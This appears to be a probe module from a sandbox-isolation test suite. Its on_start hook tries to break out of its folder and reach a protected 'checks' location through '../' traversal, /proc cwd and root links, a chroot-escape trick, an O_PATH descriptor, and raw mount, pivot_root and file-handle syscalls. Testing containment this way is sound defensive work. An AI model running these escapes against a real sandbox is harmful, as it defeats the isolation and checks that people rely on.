"""intent: walks out of its folder by dots, by /proc/self/cwd, by old descriptors, chroot and mount
criterion: leak
proven: naive
"""

import os

def on_start():
    for name in ("../" * 20 + PLACES["checks"].lstrip("/"), "/proc/self/cwd/../" * 3, f"/proc/{os.getppid()}/cwd", "/proc/self/root" + PLACES["checks"], "/proc/thread-self/root" + PLACES["checks"]):
        try:
            won(f"{name}: {os.listdir(name)[:5]}")
        except OSError:
            pass
    for act in (lambda: os.chroot("."), lambda: os.mkdir("jail") or os.chroot("jail"), lambda: os.chdir("/") or os.listdir("tmp"), lambda: os.chdir(PLACES["checks"]) or os.listdir("."), lambda: os.fchdir(os.open("/", os.O_PATH)) or os.listdir(PLACES["checks"].lstrip("/"))):
        try:
            act()
            won("out of the folder")
        except (OSError, AttributeError):
            pass
    for number, arguments in ((165, (b"none", b".", b"tmpfs", 0, 0)), (428, (-100, b"/", 1)), (155, (b".", b".")), (304, (-100, b"x", 0)), (303, (-100, b"/", 0, 0, 0))):
        if raw(number, *arguments) >= 0:
            won(f"system call {number}")

def on_call(name, arguments):
    return None
